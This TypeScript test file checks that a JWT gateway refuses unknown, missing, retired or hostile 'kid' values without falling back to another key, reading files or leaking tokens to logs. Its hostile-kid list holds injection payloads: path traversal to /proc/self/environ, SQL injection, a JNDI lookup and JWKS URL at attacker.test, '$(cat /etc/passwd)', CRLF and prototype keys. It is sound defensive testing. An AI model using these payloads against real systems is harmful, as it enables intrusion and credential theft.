/**
 * Security cases 11 and 12: an unknown, missing, retired or hostile `kid` is ERR_AUTH_KID_UNKNOWN.
 * There is no fallback to a "default" key, and the kid is only ever a `Map` key: it never reaches
 * the file system, a query or a prototype (RFC 8725 §3.10; Envoy TestJwtWithNonExistKid;
 * PortSwigger kid path traversal lab). Authenticator level first, then over HTTP.
 */
import t from 'tap';
import { counterValue, createAuthHarness, tokensInLogs } from '../helpers/auth-harness.js';
import { leakedSecrets } from '../helpers/log-sink.js';
import { expectForwarded, expectRefused } from '../helpers/refusals.js';
import { send, startScenario } from '../helpers/scenario.js';
import { createTestIssuer, mintToken, signWith, standardClaims, writeJwksFile } from '../helpers/tokens.js';
import { waitFor } from '../helpers/wait.js';

t.test('unknown, missing and retired kids (case 11)', async (t) => {
  const h = await createAuthHarness(t);
  const issuer = h.issuers[0]!;
  const second = await createTestIssuer({ name: issuer.name, kid: 'kid-second' });
  const now = h.clock.now();
  t.equal(await h.outcome('bearer', await mintToken(issuer, { nowMs: now, header: { kid: 'kid-unknown' } })), 'ERR_AUTH_KID_UNKNOWN', 'unknown kid');
  t.equal(await h.outcome('bearer', await mintToken(issuer, { nowMs: now, header: { kid: undefined } })), 'ERR_AUTH_KID_UNKNOWN', 'no kid, one key published');

  await writeJwksFile(h.jwksPaths[0]!, { keys: [issuer.jwk, second.jwk] });
  await h.sources[0]!.refresh();
  t.equal(await h.outcome('bearer', await mintToken(second, { nowMs: now, header: { kid: undefined } })), 'ERR_AUTH_KID_UNKNOWN', 'no kid, several keys');
  const retiring = await mintToken(issuer, { nowMs: now });
  t.equal(await h.outcome('bearer', retiring), 'OK', 'the soon-retired key verifies and is cached');

  await writeJwksFile(h.jwksPaths[0]!, second.jwks);
  await h.sources[0]!.refresh();
  t.equal(await h.outcome('bearer', retiring), 'ERR_AUTH_KID_UNKNOWN', 'retired kid: refused even though cached');
  t.equal(await h.outcome('bearer', await mintToken(second, { nowMs: now })), 'OK');
  t.same(tokensInLogs(h.logs, [retiring]), []);
});

/** Case 12: kids an attacker hopes reach a path, a query or a prototype. */
function hostileKids(realKid: string): Array<[string, unknown]> {
  return [
    ['a path traversal', '../../../../dev/null'],
    ['an absolute path', '/proc/self/environ'],
    ['a Windows path', '..\\..\\windows\\win.ini'],
    ['SQL', "' OR '1'='1"],
    ['SQL with a comment', "x' UNION SELECT 'key' --"],
    ['a JNDI lookup', '${jndi:ldap://attacker.test/a}'],
    ['a shell substitution', '$(cat /etc/passwd)'],
    ['a URL', 'https://attacker.test/jwks.json'],
    ['a NUL byte', 'kid-0\u0000'],
    ['CRLF', 'kid-0\r\nX-Injected: 1'],
    ['a 10 KB string', 'k'.repeat(10_000)],
    ['257 characters', 'k'.repeat(257)],
    ['the empty string', ''],
    ['a number', 1],
    ['an object', {}],
    ['an array', []],
    ['an array holding the real kid', [realKid]],
    ['null', null],
    ['true', true],
    ['__proto__', '__proto__'],
    ['constructor', 'constructor'],
    ['toString', 'toString'],
    ['hasOwnProperty', 'hasOwnProperty'],
    ['the real kid in another case', realKid.toUpperCase()],
    ['the real kid with a trailing space', `${realKid} `],
  ];
}

t.test('hostile kids never touch the file system or a prototype (case 12)', async (t) => {
  // A cap above the 10 KB kid, so the kid (not the size) is what gets judged.
  const h = await createAuthHarness(t, { auth: { maxTokenBytes: 65_536 } });
  const issuer = h.issuers[0]!;
  const claims = JSON.stringify(standardClaims(issuer, 'userApiToken', h.clock.now()));
  const loadsBefore = await counterValue(h.metrics.jwksFetches, { issuer: issuer.name, result: 'ok' });
  const kids = hostileKids(issuer.kid);
  const tokens: string[] = [];
  for (const [name, kid] of kids) {
    // Validly signed by the issuer's own key: only the kid is wrong.
    const token = signWith(issuer.privateKey, issuer.alg, JSON.stringify({ alg: issuer.alg, kid, typ: 'JWT' }), claims);
    tokens.push(token);
    t.equal(await h.outcome('bearer', token), 'ERR_AUTH_KID_UNKNOWN', name);
  }
  t.equal(h.verifications(), 0, 'no signature verification: refused at the Map lookup');
  t.equal(await counterValue(h.metrics.jwksFetches, { issuer: issuer.name, result: 'ok' }), loadsBefore, 'the JWKS file was not read again');
  t.equal(await counterValue(h.metrics.jwksFetches, { issuer: issuer.name, result: 'error' }), 0, 'and no other file was tried');
  t.equal(({} as Record<string, unknown>)['kid-0'], undefined, 'Object.prototype untouched');
  t.same(tokensInLogs(h.logs, tokens), []);
});

t.test('over HTTP: unknown, missing and retired kids are 401 invalid_token, with no fallback (case 11)', async (t) => {
  const s = await startScenario();
  t.teardown(() => s.close());
  const second = await createTestIssuer({ name: s.issuer.name, kid: 'kid-second' });
  const bearer = (token: string) => ({ headers: [['Authorization', `Bearer ${token}`]] as [string, string][] });
  await expectRefused(t, s, 'an unknown kid', bearer(await s.mint({ header: { kid: 'kid-unknown' } })), 'ERR_AUTH_KID_UNKNOWN');
  await expectRefused(t, s, 'no kid, one key published', bearer(await s.mint({ header: { kid: undefined } })), 'ERR_AUTH_KID_UNKNOWN');
  await expectRefused(t, s, 'no kid, in X-API-KEY', { headers: [['X-API-KEY', await s.mint({ type: 'userAccessToken', header: { kid: undefined } })]] }, 'ERR_AUTH_KID_UNKNOWN');

  const retiring = await s.mint();
  const fresh = await mintToken(second);
  await writeJwksFile(s.jwksPath, { keys: [s.issuer.jwk, second.jwk] });
  await waitFor('the second key to be loaded', async () => (await send(`${s.gateway.url}/api/x`, bearer(fresh))).status === 200);
  await expectRefused(t, s, 'no kid, several keys', bearer(await mintToken(second, { header: { kid: undefined } })), 'ERR_AUTH_KID_UNKNOWN');
  await expectForwarded(t, s, 'the soon-retired key verifies (and is cached)', bearer(retiring));

  await writeJwksFile(s.jwksPath, second.jwks);
  await waitFor('the first key to be retired', async () => (await send(`${s.gateway.url}/api/x`, bearer(retiring))).status === 401);
  await expectRefused(t, s, 'a retired kid, although its token was cached', bearer(retiring), 'ERR_AUTH_KID_UNKNOWN');
  await expectForwarded(t, s, 'control: the remaining key', bearer(fresh));
});

t.test('over HTTP: hostile kids are 401 invalid_token and read no file (case 12)', async (t) => {
  // Caps above the 10 KB kid, so the kid (not the size) is what gets judged.
  const s = await startScenario({ config: { auth: { maxTokenBytes: 65_536 }, server: { maxHeaderBytes: 65_536 } } });
  t.teardown(() => s.close());
  const claims = JSON.stringify(standardClaims(s.issuer, 'userApiToken', Date.now()));
  const fetches = (result: string) => counterValue(s.gateway.app.metrics.jwksFetches, { issuer: s.issuer.name, result });
  const loadsBefore = await fetches('ok');
  const tokens: string[] = [];
  for (const [name, kid] of hostileKids(s.issuer.kid)) {
    const token = signWith(s.issuer.privateKey, s.issuer.alg, JSON.stringify({ alg: s.issuer.alg, kid, typ: 'JWT' }), claims);
    tokens.push(token);
    await expectRefused(t, s, name, { headers: [['Authorization', `Bearer ${token}`]] }, 'ERR_AUTH_KID_UNKNOWN');
  }
  t.equal(await fetches('ok'), loadsBefore, 'the JWKS file was not read again');
  t.equal(await fetches('error'), 0, 'and no other file was tried');
  t.equal(({} as Record<string, unknown>)['kid-0'], undefined, 'Object.prototype untouched');
  t.strictSame(leakedSecrets(s.gateway.logs.lines(), tokens), [], 'no token in the logs');
});
